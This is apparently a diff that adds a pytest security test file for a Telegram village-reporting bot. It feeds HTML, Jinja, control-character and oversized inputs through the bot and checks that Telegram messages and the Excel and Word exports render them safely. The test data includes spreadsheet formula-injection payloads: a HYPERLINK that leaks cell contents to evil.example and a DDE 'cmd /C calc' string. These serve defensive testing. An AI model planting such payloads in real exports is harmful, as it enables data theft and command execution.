@@ -1,0 +1,323 @@
+"""Injection: HTML/Markdown/Jinja syntax, control characters, right-to-left marks and 10 kB strings in every
+free-text answer, a village name, the reporter's name and every form label.
+
+Every message the bot sends (to anyone) must parse as Telegram HTML with the emulator's strict parser
+and stay within Telegram's limits; summaries render; the Excel export never contains a formula made of
+user text; the Word export opens and contains the text literally.
+"""
+
+from __future__ import annotations
+
+import io
+import re
+import shutil
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import docx
+import openpyxl
+import pytest
+import yaml
+from sqlalchemy.engine import Engine
+
+from bot.emulator.tghtml import EntityParseError, parse_html, utf16_len
+from bot.handlers.summary import render_summary_messages
+from storage.db import session_scope
+from storage.models import Period, Submission
+from tests.security.conftest import Figures
+from tests.security.world import (
+    COMMUNE_X,
+    INVITES,
+    POLICE_X,
+    ROOT,
+    SUPERVISOR,
+    DocumentRecorder,
+    World,
+    start_world,
+)
+from tests.support.telegram import FakeUser
+
+pytestmark = pytest.mark.security
+
+EVIL = "<b>{{ 7*7 }}</code>{% raw %}{# c #} *đậm* _nghiêng_ `mã` [x](http://evil.example) \u202eRTL\u200f\u2066 &amp; & \"'"
+CONTROL = "\x00\x01\x07\x08\x0b\x0c\x1b[31m\x7f"
+TEN_KB = ("Ấp <i>&#" + "x" * 20 + "</i> {{ 1 }} ")[:40] * 256  # 10 240 characters
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"EVIL")',
+    "+EVIL()+1",
+    "-EVIL()-1",
+    "@EVIL(A1)",
+    "=cmd|' /C calc'!EVIL",
+]
+EVIL_VILLAGE = "Thôn <b>Nà</b> {{ 7*7 }} \u202e& Mới"
+FORMULA_VILLAGE = "=EVIL()+Thôn Cũ"
+HEAD_E = FakeUser(7201, "<b>Ê</b> {{ 7*7 }} </code>", "\u202e&amp;")  # head of the evil village
+TELEGRAM_TEXT_LIMIT, TELEGRAM_CAPTION_LIMIT = 4096, 1024
+
+
+def _label(text: str) -> str:
+    return f"{EVIL} {text}"
+
+
+def _evil_form(path: Path, *, big: bool) -> None:
+    """The shipped 6-month form with every title and label (and choice label) prefixed by EVIL (or 10 kB)."""
+    form = yaml.safe_load((ROOT / "deploy" / "forms" / "bao-cao-6-thang.yaml").read_text(encoding="utf-8"))
+    prefix = TEN_KB if big else EVIL
+
+    def walk(questions: list[dict[str, Any]]) -> None:
+        for q in questions:
+            if "label" in q:
+                q["label"] = f"{prefix} {q['label']}"
+            for choice in q.get("choices") or []:
+                if isinstance(choice, dict) and not big:
+                    choice["label"] = f"{EVIL[:40]} {choice['label']}"
+            walk(q.get("questions") or [])
+
+    form["title"] = f"{prefix} {form['title']}"
+    for section in form.get("sections") or []:
+        if "title" in section:
+            section["title"] = f"{prefix} {section['title']}"
+        walk(section.get("questions") or [])
+    walk(form.get("questions") or [])
+    path.write_text(yaml.safe_dump(form, allow_unicode=True), encoding="utf-8")
+
+
+def _setup(tmp_path: Path, *, big: bool = False):
+    (tmp_path / "forms").mkdir(exist_ok=True)
+    _evil_form(tmp_path / "forms" / "bao-cao-6-thang.yaml", big=big)
+    shutil.copy(ROOT / "deploy" / "forms" / "su-co.yaml", tmp_path / "forms" / "su-co.yaml")
+
+    def edit(data: dict[str, Any]) -> None:
+        for commune in data["communes"]:
+            commune["forms"] = ["forms/bao-cao-6-thang.yaml", "forms/su-co.yaml"]
+            commune["schedules"] = [commune["schedules"][0]]
+        data["communes"][0]["villages"] += [EVIL_VILLAGE, FORMULA_VILLAGE]
+
+    return edit
+
+
+@pytest.fixture
+async def evil_world(
+    engine: Engine, database_url: str, tmp_path: Path, figures: Figures
+) -> AsyncIterator[World]:
+    """The world with evil labels, an evil village (and its evil-named head) and a formula-named village."""
+    users = [*INVITES, (HEAD_E, {"role": "village_head", "village": EVIL_VILLAGE, "commune": COMMUNE_X})]
+    async for w in start_world(
+        engine,
+        database_url,
+        on_update=figures.update,
+        edit=_setup(tmp_path),
+        setup_path=tmp_path / "security.yaml",
+        users=users,
+    ):
+        yield w
+
+
+def check_messages(world: World, figures: Figures) -> list[str]:
+    """Every text and caption the bot sent parses as Telegram HTML within limits; returns the plain texts."""
+    plain, problems = [], []
+    for call in world.request.calls:
+        if call.method in ("sendMessage", "editMessageText"):
+            raw, limit = call.params["text"], TELEGRAM_TEXT_LIMIT
+        elif call.method in ("sendPhoto", "sendDocument") and call.params.get("caption"):
+            raw, limit = call.params["caption"], TELEGRAM_CAPTION_LIMIT
+        else:
+            continue
+        try:
+            text, _ = parse_html(raw)
+        except EntityParseError as err:
+            problems.append(f"{call.method} to {call.params.get('chat_id')}: {err}: {raw[:300]!r}")
+            continue
+        if not 0 < utf16_len(text) <= limit:
+            problems.append(f"{call.method}: {utf16_len(text)} UTF-16 units (limit {limit})")
+        for row in (call.params.get("reply_markup") or {}).get("inline_keyboard", []):
+            for button in row:
+                if len(button.get("callback_data", "").encode()) > 64 or not button.get("text"):
+                    problems.append(f"bad button {button}")
+        plain.append(text)
+    assert not problems, "\n".join(problems)
+    evaluated = [t for t in plain if "<b>49" in t or "49</code>" in t]
+    assert not evaluated, f"template syntax was evaluated: {evaluated[:2]}"
+    figures.fault("messages validated", len(plain))
+    return plain
+
+
+async def walk_with(world: World, user: FakeUser, figures: Figures, tries: list[str]) -> int:
+    """Answer every question, offering each string of `tries` before a plain "3"; returns texts accepted."""
+    accepted = stored = 0
+    for _ in range(200):
+        tokens = world.tokens(user)
+        if "confirm" in tokens:
+            return accepted
+        pick = next((c for c in ("submit", "more:y" if accepted < 3 else "more:n", "ok:0", "d:yday", "c:0", "n")
+                     if c in tokens), None)  # fmt: skip
+        if pick == "more:y" and "more:y" not in tokens:
+            pick = None
+        if pick is not None:
+            await world.press_token(user, pick)
+            continue
+        if "t:0" in tokens:
+            await world.press_token(user, "t:0")
+            await world.press_token(user, "done")
+            continue
+        before = world.texts(user)[-1]
+        formula = FORMULAS[stored % len(FORMULAS)]
+        first = [formula, *tries] if accepted % 2 else [*tries, formula]  # alternate which kind is stored
+        for text in [*first, "3", "0"]:
+            await world.send(user, text)
+            figures.fault("injected text")
+            if "⚠️" not in world.texts(user)[-1] and world.texts(user)[-1] != before:
+                accepted += text not in ("3", "0")
+                stored += text == formula
+                break
+        else:
+            raise AssertionError(f"nothing accepted: {world.texts(user)[-2:]}")
+    raise AssertionError("the form never reached its confirmation")
+
+
+async def test_evil_text_everywhere_in_the_conversation(evil_world: World, figures: Figures) -> None:
+    """10 kB, control characters and markup in every answer, label and name: every message stays valid."""
+    await evil_world.send(HEAD_E, "/baocao")
+    await evil_world.press_token(HEAD_E, evil_world.last_keyboard(HEAD_E)[1][0])
+    accepted = await walk_with(evil_world, HEAD_E, figures, [TEN_KB, CONTROL + EVIL, EVIL])
+    assert accepted >= 3
+    await evil_world.press_token(HEAD_E, "confirm")
+    await evil_world.send(HEAD_E, "/suco")
+    await evil_world.send(HEAD_E, TEN_KB)
+    await evil_world.send(HEAD_E, "/help")
+    plain = check_messages(evil_world, figures)
+    assert any("{{ 7*7 }}" in t and "<b>" in t for t in plain)  # shown literally, not evaluated or dropped
+    assert any(EVIL_VILLAGE in t for t in plain)
+    (sub,) = evil_world.submissions()
+    texts = [v for v in sub.answers.values() if isinstance(v, str)]
+    assert any("{{ 7*7 }}" in v for v in texts) and any(v.startswith(tuple("=+-@")) for v in texts)
+
+
+async def _submit_evil_report(world: World, figures: Figures) -> int:
+    await world.send(HEAD_E, "/baocao")
+    await world.press_token(HEAD_E, world.last_keyboard(HEAD_E)[1][0])
+    await walk_with(world, HEAD_E, figures, [CONTROL + EVIL])
+    await world.press_token(HEAD_E, "confirm")
+    (sub,) = world.submissions()
+    return sub.period_id
+
+
+def _file_formula_report(world: World, period_id: int) -> None:
+    """The formula-named village files a report whose every free text is a formula (stored directly)."""
+    (sub,) = world.submissions()
+    answers = dict(sub.answers)
+    answers.update(de_nghi_khen_thuong=FORMULAS[0], kho_khan=FORMULAS[1], de_xuat=FORMULAS[2])
+    answers["so_vu_viec"] = 2
+    answers["vu_viec"] = [{"ngay": "2026-05-01", "loai": "khac", "mo_ta": f} for f in FORMULAS[3:]]
+    with session_scope(world.engine) as s:
+        s.add(
+            Submission(
+                village_id=world.village_id(FORMULA_VILLAGE),
+                form_id=sub.form_id,
+                period_id=period_id,
+                form_version=sub.form_version,
+                answers=answers,
+                sent_at=sub.sent_at,
+                received_at=sub.received_at,
+                receipt="BC-EVIL01",
+            )
+        )
+
+
+async def test_summaries_render_evil_reports(evil_world: World, figures: Figures) -> None:
+    """/tonghop, the village's report, its long answers in full and the province roll-up stay valid."""
+    period_id = await _submit_evil_report(evil_world, figures)
+    village_id = evil_world.village_id(EVIL_VILLAGE)
+    await evil_world.send(POLICE_X, "/tonghop")
+    await evil_world.press(POLICE_X, f"sm:s:{period_id}:{village_id}")
+    for index in range(40):
+        await evil_world.press(POLICE_X, f"sm:t:{period_id}:{village_id}:{index}")
+    await evil_world.press(POLICE_X, f"sm:v:{period_id}:0")
+    await evil_world.send(SUPERVISOR, "/tonghop")
+    await evil_world.press(SUPERVISOR, f"sm:r:{period_id}")
+    plain = check_messages(evil_world, figures)
+    shown = "\n".join(t for t in plain if EVIL_VILLAGE in t)
+    assert "{{ 7*7 }}" in shown and "[x](http://evil.example)" in shown
+    with session_scope(evil_world.engine) as s:
+        period = s.get(Period, period_id)
+        messages = render_summary_messages(s, period, None, evil_world.clock())
+    assert messages
+    for text, _buttons in messages:
+        body, _ = parse_html(text)
+        assert 0 < utf16_len(body) <= TELEGRAM_TEXT_LIMIT
+
+
+async def _export(world: World, figures: Figures, fmt: str) -> bytes:
+    period_id = await _submit_evil_report(world, figures)
+    _file_formula_report(world, period_id)
+    await world.press(POLICE_X, f"xe:{period_id}:{fmt}")
+    assert isinstance(world.request, DocumentRecorder)
+    files = [parts["document"] for method, _params, parts in world.request.files if method == "sendDocument"]
+    assert len(files) == 1, world.texts(POLICE_X)[-2:]
+    _name, content, _mime = files[0]
+    check_messages(world, figures)
+    return content.read() if hasattr(content, "read") else content
+
+
+async def test_excel_export_neutralises_formulas(evil_world: World, figures: Figures) -> None:
+    """No cell made of user text is a formula, whatever it starts with; the text itself is kept."""
+    content = await _export(evil_world, figures, "xlsx")
+    wb = openpyxl.load_workbook(io.BytesIO(content))
+    seen, formulas = [], []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                value = cell.value
+                if isinstance(value, str) and ("EVIL" in value or "evil.example" in value):
+                    seen.append(value)
+                    if cell.data_type == "f" or (value.startswith("=") and cell.data_type != "s"):
+                        formulas.append(f"{ws.title}!{cell.coordinate}: {value!r} ({cell.data_type})")
+    figures.fault("formula payloads in cells", len(seen))
+    assert not formulas, formulas
+    kept = {v.lstrip("'") for v in seen}
+    assert set(FORMULAS) <= kept, set(FORMULAS) - kept  # every formula is there, as text
+    assert any(FORMULA_VILLAGE in v for v in seen)  # the formula-like village name is a text cell too
+
+
+async def test_word_export_opens_and_contains_the_text_literally(evil_world: World, figures: Figures) -> None:
+    """The .docx opens with python-docx and shows markup, template syntax and formulas as typed."""
+    content = await _export(evil_world, figures, "docx")
+    document = docx.Document(io.BytesIO(content))
+    parts = [p.text for p in document.paragraphs]
+    for table in document.tables:
+        parts += [cell.text for row in table.rows for cell in row.cells]
+    text = "\n".join(parts)
+    visible = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "", EVIL)
+    assert visible in text or EVIL.replace("\u202e", "").replace("\u2066", "") in text, text[:2000]
+    assert "{{ 7*7 }}" in text and "49</code>" not in text
+    assert EVIL_VILLAGE in text and FORMULA_VILLAGE in text
+    assert all(f in text for f in FORMULAS[:3]), [f for f in FORMULAS if f not in text]
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="hole: form loader accepts 10 kB titles/labels and the question screen is sent whole (> 4096)",
+)
+async def test_ten_kilobyte_form_labels(
+    engine: Engine, database_url: str, tmp_path: Path, figures: Figures
+) -> None:
+    """A form whose title and labels are 10 kB each: loaded, and every screen is still one valid message."""
+    users = [INVITES[0]]
+    async for world in start_world(
+        engine,
+        database_url,
+        on_update=figures.update,
+        edit=_setup(tmp_path, big=True),
+        setup_path=tmp_path / "security.yaml",
+        users=users,
+    ):
+        head = users[0][0]
+        await world.send(head, "/baocao")
+        await world.press_token(head, world.last_keyboard(head)[1][0])
+        await walk_with(world, head, figures, [])
+        await world.press_token(head, "confirm")
+        figures.fault("10 kB labels")
+        check_messages(world, figures)
+        assert len(world.submissions()) == 1
+        assert "Mã biên nhận" in world.texts(head)[-1]
